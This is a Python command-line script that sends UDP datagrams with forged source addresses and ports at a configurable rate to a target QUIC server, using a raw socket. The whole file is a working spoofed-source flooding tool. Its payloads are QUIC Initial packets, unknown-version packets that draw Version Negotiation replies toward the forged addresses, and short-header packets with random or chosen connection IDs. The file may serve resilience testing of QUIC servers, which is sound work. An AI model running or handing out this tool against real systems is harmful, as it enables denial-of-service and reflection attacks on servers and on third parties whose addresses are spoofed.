"""Sends UDP/IPv4 datagrams whose source addresses and ports are anybody's, as an attacker without source validation can.

Options name the target, what is sent and how much of it: `count` datagrams at `rate` a second, the sources in turn.

initial   1,200 octets of QUIC v1 with random Connection IDs
unknown   the same of a version that nobody knows: servers answer with Version Negotiation
short     a short header with random octets
id        a short header with one of `--ids`, in turn
"""

import argparse
import itertools
import os
import socket
import struct
import time

BURST_SECONDS = 0.005
UNKNOWN_VERSION = 0x1A2A3A4A


def long_header(version: int) -> bytes:
    start = b"\xc3" + struct.pack("!I", version) + b"\x08" + os.urandom(8) + b"\x08" + os.urandom(8)
    # No token, the length of what follows as a variable-length integer of two octets (RFC 9000 section 17.2.2).
    return (start + b"\0" + struct.pack("!H", 0x4000 | (1200 - len(start) - 3))).ljust(1200, b"\x5a")


def payloads(kind: str, ids: list[bytes]):
    if kind == "id":
        for cid in itertools.cycle(ids):
            yield b"\x40" + cid + os.urandom(30)
    while True:
        if kind == "short":
            yield b"\x40" + os.urandom(59)
        else:
            yield long_header(1 if kind == "initial" else UNKNOWN_VERSION)


def sources(options: argparse.Namespace):
    first = struct.unpack("!I", socket.inet_aton(options.source))[0]
    addresses = [struct.pack("!I", first + i) for i in range(options.addresses)]
    ports = range(options.port, options.port + options.ports)
    # Neighbours in time have different addresses, too.
    each = [(address, port) for port in ports for address in addresses for _ in range(options.repeat)]
    return itertools.cycle(each)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--target", required=True, help="address:port")
    parser.add_argument("--kind", choices=["initial", "unknown", "short", "id"], required=True)
    parser.add_argument("--ids", default="", help="hexadecimal, comma-separated")
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--source", required=True, help="the first address")
    parser.add_argument("--addresses", type=int, default=1)
    parser.add_argument("--port", type=int, required=True, help="the first source port")
    parser.add_argument("--ports", type=int, default=1)
    parser.add_argument("--repeat", type=int, default=1, help="datagrams of a source one after the other")
    options = parser.parse_args()

    address, _, port = options.target.partition(":")
    destination = socket.inet_aton(address)
    datagrams = payloads(options.kind, [bytes.fromhex(text) for text in options.ids.split(",")])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    burst = max(1, int(options.rate * BURST_SECONDS))
    started = time.monotonic()
    for number, (source, source_port) in enumerate(itertools.islice(sources(options), options.count)):
        if number % burst == 0:
            time.sleep(max(0.0, started + number / options.rate - time.monotonic()))
        payload = next(datagrams)
        # The kernel fills in length, identification and checksum; a UDP checksum of 0 is none.
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + source + destination
        raw.sendto(ip + struct.pack("!4H", source_port, int(port), 8 + len(payload), 0) + payload, (address, 0))


main()
